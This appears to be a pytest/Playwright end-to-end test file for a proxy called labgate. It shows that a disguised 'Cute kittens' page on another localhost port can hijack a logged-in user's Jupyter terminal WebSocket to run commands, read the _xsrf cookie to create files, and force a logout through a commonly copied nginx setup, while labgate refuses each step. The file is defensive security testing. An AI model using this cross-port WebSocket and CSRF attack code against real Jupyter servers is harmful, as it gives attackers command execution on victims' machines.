"""A page on another port of the same host, in the browser of somebody who is logged in.

Ports do not separate cookies, and another port is the *same site*: SameSite=Lax sends the
login cookie along, and document.cookie even shows the page Jupyter's ``_xsrf`` cookie. What
stands between such a page and a shell is that somebody compares Origin with Host. The same
attacks go through nginx, set up as everybody copies it (Host and Origin become Jupyter's, on
every request), and through labgate, which compares first and rewrites then.
"""

from __future__ import annotations

import json
import ssl
import threading
from collections.abc import Iterator
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
import trustme
from playwright.sync_api import BrowserContext, Page, expect

from tests.conftest import require
from tests.e2e.conftest import shoot
from tests.e2e.programs import TOKEN, CopiedNginx, Jupyter, Labgate, until

pytestmark = [
    pytest.mark.chromium,
    pytest.mark.jupyter,
    pytest.mark.nginx,
    pytest.mark.usefixtures("jupyterlab"),
]

ATTACKS = """<!doctype html><title>A harmless page</title><h1>Cute kittens</h1><pre></pre>
<script>
function say(text) { document.querySelector("pre").textContent += text + "\\n"; }

/* Types a command into a terminal; tells how the socket ended. */
function type(address, command) {
  return new Promise(resolve => {
    const socket = new WebSocket(address);
    let opened = false;
    socket.onmessage = message => {
      if (JSON.parse(message.data)[0] !== "setup") return;
      opened = true;
      socket.send(JSON.stringify(["stdin", command + "\\r"]));
      say("a shell!");
      resolve("typed");
    };
    socket.onclose = event => { if (!opened) { say("no socket"); resolve("refused"); } };
  });
}

/* Sends a request with the victim's cookies; an opaque answer only tells that it was sent. */
async function send(address, options) {
  try {
    const answer = await fetch(address, {credentials: "include", ...options});
    const text = answer.type === "opaque" ? "" : await answer.text();
    say(answer.type + " " + answer.status + " " + text.slice(0, 200));
    return {type: answer.type, status: answer.status, text};
  } catch (error) {
    say(String(error));
    return {type: "error", status: 0, text: String(error)};
  }
}

/* Jupyter's XSRF cookie, which this page can read. */
function xsrf() { return (document.cookie.match(/_xsrf=([^;]+)/) || [])[1]; }
</script>"""


@dataclass
class Front:
    """One of the two proxies, and what it logged."""

    name: str
    origin: str
    program: CopiedNginx | Labgate

    def log(self) -> str:
        """The proxy's own log."""
        if isinstance(self.program, CopiedNginx):
            return self.program.access.read_text()
        return self.program.log

    def status_of(self, request: str) -> int:
        """The status the proxy logged for the newest request whose line holds ``request``."""
        lines = until(
            lambda: [line for line in self.log().splitlines() if f'"{request}' in line],
            lambda: f"{request} is not in the log:\n{self.log()}",
        )
        return int(lines[-1].partition(f'"{request}')[2].partition('" ')[2].split()[0])


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return tmp_path_factory.mktemp("evil")


@pytest.fixture(scope="module")
def jupyter(folder: Path) -> Iterator[Jupyter]:
    with Jupyter(folder) as running:
        yield running


@pytest.fixture(scope="module")
def labgate(folder: Path, jupyter: Jupyter) -> Iterator[Labgate]:
    with Labgate(folder, "serve", "--upstream", jupyter.upstream) as running:
        yield running


@pytest.fixture(scope="module")
def authority(labgate: Labgate) -> trustme.CA:
    """labgate's own development CA signs for the others too: nobody's TLS is worse."""
    key = labgate.authority.with_name("ca.key")
    return trustme.CA.from_pem(labgate.authority.read_bytes(), key.read_bytes())


@pytest.fixture(scope="module")
def nginx(folder: Path, jupyter: Jupyter, authority: trustme.CA) -> Iterator[CopiedNginx]:
    require(Path("/usr/sbin/nginx").exists(), "no nginx", "apt-get install nginx-light")
    leaf = authority.issue_cert("localhost")
    cert, key = folder / "nginx.pem", folder / "nginx.key"
    leaf.private_key_pem.write_to_path(key)
    for blob in leaf.cert_chain_pems:
        blob.write_to_path(cert, append=True)
    with CopiedNginx(folder, jupyter.upstream, cert, key) as running:
        yield running


@pytest.fixture(params=[pytest.param("nginx", marks=pytest.mark.deployment), "labgate"])
def front(request: pytest.FixtureRequest, nginx: CopiedNginx, labgate: Labgate) -> Front:
    program = nginx if request.param == "nginx" else labgate
    return Front(request.param, program.origin, program)


@pytest.fixture(scope="module")
def evil(authority: trustme.CA) -> Iterator[str]:
    """The origin of a page on another port of localhost, over HTTPS as well."""

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            body = ATTACKS.encode()
            self.send_response(200)
            self.send_header("Content-Type", "text/html; charset=utf-8")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_request(self, code: int | str = "-", size: int | str = "-") -> None:
            """Nobody needs to know."""

    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    authority.issue_cert("localhost").configure_cert(context)
    with ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        server.socket = context.wrap_socket(server.socket, server_side=True)
        serving = threading.Thread(target=server.serve_forever)
        serving.start()
        yield f"https://localhost:{server.server_port}"
        server.shutdown()
        serving.join()


@pytest.fixture
def victim(context: BrowserContext, front: Front) -> Page:
    """Somebody who is logged in and has JupyterLab open."""
    page = context.new_page()
    page.goto(f"{front.origin}/lab?reset&token={TOKEN}")
    expect(page.locator("#jp-MainLogo")).to_be_visible()
    return page


@pytest.fixture
def attacker(context: BrowserContext, victim: Page, evil: str) -> Page:
    """The page in the next tab of the same browser."""
    page = context.new_page()
    page.goto(evil)
    return page


OWN_REQUEST = """async ([method, path]) => {
  const xsrf = document.cookie.match(/_xsrf=([^;]+)/)[1];
  const answer = await fetch(path, {method, headers: {"X-XSRFToken": xsrf}});
  return [answer.status, await answer.json()];
}"""


def own(page: Page, method: str, path: str) -> Any:
    """What JupyterLab's own page is answered; its cookie is its only login."""
    status, answer = page.evaluate(OWN_REQUEST, [method, path])
    assert status in (200, 201), answer
    return answer


def test_a_foreign_page_types_into_the_terminal(
    front: Front, victim: Page, attacker: Page, tmp_path: Path
) -> None:
    terminal = own(victim, "POST", "/api/terminals")["name"]
    address = f"{front.origin.replace('https', 'wss')}/terminals/websocket/{terminal}"
    proof = tmp_path / "proof"

    ended = attacker.evaluate("([a, c]) => type(a, c)", [address, f"echo pwned > {proof}"])
    shoot(attacker, f"evil-terminal-{front.name}")
    status = front.status_of(f"GET /terminals/websocket/{terminal}") if ended == "refused" else 101

    # What the same terminal does next shows that it would have obeyed by now.
    after = tmp_path / "after"
    victim.evaluate(
        """([address, command]) => new Promise(resolve => {
             const socket = new WebSocket(address);
             socket.onmessage = message => {
               if (JSON.parse(message.data)[0] !== "setup") return;
               socket.send(JSON.stringify(["stdin", command + "\\r"])); resolve();
             };
           })""",
        [address, f"echo mine > {after}"],
    )
    until(lambda: after.exists() and after.read_text(), "the own page's terminal does not work")

    if front.name == "nginx":
        assert (ended, status) == ("typed", 101)
        until(lambda: proof.exists() and proof.read_text() == "pwned\n", "nothing was written")
    else:
        assert (ended, status) == ("refused", 403)
        assert not proof.exists()


def test_a_foreign_page_reads_the_file_list(front: Front, victim: Page, attacker: Page) -> None:
    """Jupyter answers through nginx; that the page cannot read it is the browser's doing.

    Without an Access-Control-Allow-Origin for it, CORS keeps the answer from the page. So
    the proof is what was answered on the wire, and the next test's, that requests *act*.
    """
    address = f"{front.origin}/api/contents?attempt={front.name}"
    answer = attacker.evaluate("a => send(a, {mode: 'cors'})", address)
    assert answer["type"] == "error"
    expected = 200 if front.name == "nginx" else 403
    assert front.status_of(f"GET /api/contents?attempt={front.name}") == expected
    assert own(victim, "GET", "/api/contents")["type"] == "directory"


def test_a_foreign_page_writes_a_file(
    front: Front, victim: Page, attacker: Page, jupyter: Jupyter
) -> None:
    """A form-like POST needs no CORS preflight, and the XSRF token may stand in the query."""
    target = f"{jupyter.work / front.name}"
    Path(target).mkdir()
    xsrf = attacker.evaluate("xsrf()")
    assert xsrf, "the page on the other port sees Jupyter's _xsrf cookie"
    path = f"/api/contents/{front.name}?_xsrf={xsrf}"
    body = json.dumps({"type": "file", "ext": ".sh"})
    answer = attacker.evaluate(
        "([a, body]) => send(a, {method: 'POST', mode: 'no-cors', body})",
        [front.origin + path, body],
    )
    shoot(attacker, f"evil-write-{front.name}")
    assert answer["type"] == "opaque"
    written = [entry.name for entry in Path(target).iterdir()]
    status = front.status_of(f"POST /api/contents/{front.name}")
    if front.name == "nginx":
        assert (status, written) == (201, ["untitled.sh"])
    else:
        assert (status, written) == (403, [])
    assert own(victim, "POST", f"/api/contents/{front.name}")["name"]


@pytest.mark.deployment
def test_a_foreign_page_logs_nobody_out(front: Front, victim: Page, attacker: Page) -> None:
    """Jupyter logs out by GET, and a link, or a redirect, is a GET."""
    attacker.evaluate("a => { location.href = a }", f"{front.origin}/logout?by={front.name}")
    status = front.status_of(f"GET /logout?by={front.name}")
    # The login cookie is what is left of a login; reloading asks for one where it is gone.
    logins = {cookie["name"] for cookie in victim.context.cookies(front.origin)}
    held = any(name.startswith("username-") for name in logins)
    assert (status, held) == ((200, False) if front.name == "nginx" else (403, True))
    if front.name == "labgate":
        assert own(victim, "GET", "/api/me")["identity"]["username"]
        # Lab's own menu goes on: it opens the same address from within.
        victim.evaluate("() => { location.href = '/logout?by=menu' }")
        assert front.status_of("GET /logout?by=menu") == 200
